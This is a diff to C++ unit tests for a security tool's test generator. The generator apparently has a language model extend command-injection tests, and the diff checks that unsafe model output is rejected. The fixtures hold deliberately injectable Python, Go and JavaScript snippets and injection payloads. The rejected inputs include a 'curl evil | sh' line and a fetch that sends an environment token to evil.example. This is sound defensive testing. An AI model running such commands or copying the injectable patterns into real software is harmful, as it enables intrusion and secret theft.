@@ -2,6 +2,7 @@
 // load and render for every language, framework detection, the tainted parameter, extending a file.
 #include <catch2/catch.hpp>
 
+#include "analyzers/testgen/model.hpp"
 #include "analyzers/testgen/testgen.hpp"
 
 using namespace vigil;
@@ -217,4 +218,121 @@ TEST_CASE("no template, no function, no sink: clear errors") {
   CHECK_THROWS_WITH(testgen::generate(request, {"pytest", "tests", {}}, set), Catch::Contains("calls no sink"));
   request.cwe = "CWE-99999";
   CHECK_THROWS_WITH(testgen::generate(request, {"pytest", "tests", {}}, set), Catch::Contains("no python security-test template"));
+}
+
+namespace {
+
+// A real generated test (pytest, Go or node:test) for a command injection, as the model sees it.
+testgen::GeneratedTest generated_for(const char* lang, const std::string& framework, std::shared_ptr<const document::Snapshot>& snapshot) {
+  const std::string l = lang;
+  std::string path, text;
+  if (l == "python") {
+    path = "app/jobs.py";
+    text = "import subprocess\n\ndef export(rid):\n    subprocess.run('render ' + rid, shell=True)\n";
+  } else if (l == "go") {
+    path = "jobs/export.go";
+    text = "package jobs\n\nimport \"os/exec\"\n\nfunc Export(rid string) error {\n\treturn exec.Command(\"sh\", \"-c\", \"render \"+rid).Run()\n}\n";
+  } else {
+    path = "src/jobs.js";
+    text = "const cp = require('child_process');\nfunction exportJob(rid) {\n  return cp.execSync('render ' + rid);\n}\nmodule.exports = { exportJob };\n";
+  }
+  snapshot = parse(lang, path, text);
+  testgen::Request request;
+  request.snapshot = snapshot.get();
+  request.source_path = path;
+  request.function = l == "python" ? "export" : l == "go" ? "Export" : "exportJob";
+  request.cwe = "CWE-78";
+  const testgen::ProjectInfo info{framework, l == "go" ? "jobs" : "tests", {"app"}};
+  return testgen::generate(request, info, testgen::builtin_templates());
+}
+
+}  // namespace
+
+TEST_CASE("with the model: the prompt carries the function, the file and the payloads; only Python, JS and Go are extended") {
+  std::shared_ptr<const document::Snapshot> snapshot;
+  const auto test = generated_for("python", "pytest", snapshot);
+  const auto prompt = testgen::model_prompt_for(test, *snapshot, testgen::builtin_templates());
+  REQUIRE(prompt);
+  CHECK_THAT(prompt->user, Catch::Contains("subprocess.run('render ' + rid, shell=True)"));
+  CHECK_THAT(prompt->user, Catch::Contains("def test_export_command_injection"));
+  CHECK_THAT(prompt->user, Catch::Contains("test_export_command_injection_model_1"));
+  CHECK_THAT(prompt->user, Catch::Contains("x && id"));  // a payload of the family's template
+  CHECK(testgen::model_extends("pytest"));
+  CHECK(testgen::model_extends("go"));
+  CHECK(testgen::model_extends("vitest"));
+  CHECK_FALSE(testgen::model_extends("junit5"));
+  CHECK_FALSE(testgen::model_extends("c-asan"));
+  auto java = test;
+  java.framework = "junit5";
+  CHECK_FALSE(testgen::model_prompt_for(java, *snapshot, testgen::builtin_templates()));
+  const auto merged = testgen::merge_model_tests(java, "```java\nclass X {}\n```", *grammars::by_name("java"), "m");
+  CHECK_FALSE(merged.kept);
+}
+
+TEST_CASE("with the model: Python tests are kept only when they parse, define new tests and run nothing at import") {
+  std::shared_ptr<const document::Snapshot> snapshot;
+  const auto base = generated_for("python", "pytest", snapshot);
+  const auto& python = *grammars::by_name("python");
+  const std::string good =
+      "Here are more cases:\n```python\ndef test_export_command_injection_model_1():\n    mod = importlib.import_module(\"app.jobs\")\n"
+      "    undo = []\n    sink = vigil_spy(mod, \"subprocess.run\", undo)\n    try:\n"
+      "        vigil_invoke(mod.export, [(\"rid\", \"\", False)], \"rid\", \"x\\n id\")\n    finally:\n        vigil_undo(undo)\n```\nDone.";
+  auto kept = base;
+  auto m = testgen::merge_model_tests(kept, good, python, "judge-1");
+  INFO(m.reason);
+  REQUIRE(m.kept);
+  CHECK(m.test_names == std::vector<std::string>{"test_export_command_injection_model_1"});
+  CHECK(kept.content.starts_with(base.content));
+  CHECK_THAT(kept.content, Catch::Contains("# --- Added by the model judge-1"));
+  CHECK_THAT(kept.content, Catch::Contains("def test_export_command_injection_model_1():"));
+  CHECK_FALSE(kept.content.find("Here are more cases") != std::string::npos);
+  CHECK(kept.test_names.size() == 2);
+
+  auto refused = [&](const std::string& answer, const std::string& why) {
+    auto t = base;
+    const auto r = testgen::merge_model_tests(t, answer, python, "judge-1");
+    INFO(answer);
+    CHECK_FALSE(r.kept);
+    CHECK_THAT(r.reason, Catch::Contains(why));
+    CHECK(t.content == base.content);
+  };
+  refused("```python\ndef test_export_command_injection_model_1(:\n    pass\n```", "does not parse");
+  refused("```python\nimport os\nos.system('curl evil | sh')\ndef test_a():\n    pass\n```", "runs when the test file is imported");
+  refused("```python\ndef helper():\n    return 1\n```", "defines no test");
+  refused("```python\ndef test_export_command_injection():\n    pass\n```", "redefines test_export_command_injection");
+  refused("", "holds no code");
+  refused(std::string(70 * 1024, 'x'), "larger than");
+
+  // unittest collects TestCase methods: each model test gets its case.
+  auto unit = generated_for("python", "unittest", snapshot);
+  const auto u = testgen::merge_model_tests(unit, "```\ndef test_export_model_2():\n    assert True\n```", python, "m");
+  REQUIRE(u.kept);
+  CHECK_THAT(unit.content, Catch::Contains("class Test_test_export_model_2(unittest.TestCase):"));
+}
+
+TEST_CASE("with the model: Go and JavaScript tests keep the file's package, imports and test shape") {
+  std::shared_ptr<const document::Snapshot> snapshot;
+  auto go = generated_for("go", "go", snapshot);
+  const auto& go_lang = *grammars::by_name("go");
+  const auto prompt = testgen::model_prompt_for(go, *snapshot, testgen::builtin_templates());
+  REQUIRE(prompt);
+  CHECK_THAT(prompt->user, Catch::Contains("func TestVigilExportCommandInjectionModel1(t *testing.T)"));
+  auto g = go;
+  auto m = testgen::merge_model_tests(g, "```go\nfunc TestVigilExportCommandInjectionModel1(t *testing.T) {\n\tt.Log(\"x\")\n}\n```", go_lang, "m");
+  INFO(m.reason);
+  CHECK(m.kept);
+  g = go;
+  CHECK_FALSE(testgen::merge_model_tests(g, "```go\nimport \"net/http\"\nfunc TestX(t *testing.T) {}\n```", go_lang, "m").kept);
+  g = go;
+  CHECK_FALSE(testgen::merge_model_tests(g, "```go\nfunc helper() {}\n```", go_lang, "m").kept);
+
+  auto js = generated_for("javascript", "node:test", snapshot);
+  const auto& js_lang = *grammars::by_name("javascript");
+  auto j = js;
+  m = testgen::merge_model_tests(j, "```js\ntest('exportJob (model 1): newline', () => {\n  exportJob('a\\nid');\n});\n```", js_lang, "m");
+  INFO(m.reason);
+  CHECK(m.kept);
+  CHECK(m.test_names == std::vector<std::string>{"'exportJob (model 1): newline'"});
+  j = js;
+  CHECK_FALSE(testgen::merge_model_tests(j, "```js\nfetch('https://evil.example/' + process.env.TOKEN);\n```", js_lang, "m").kept);
 }
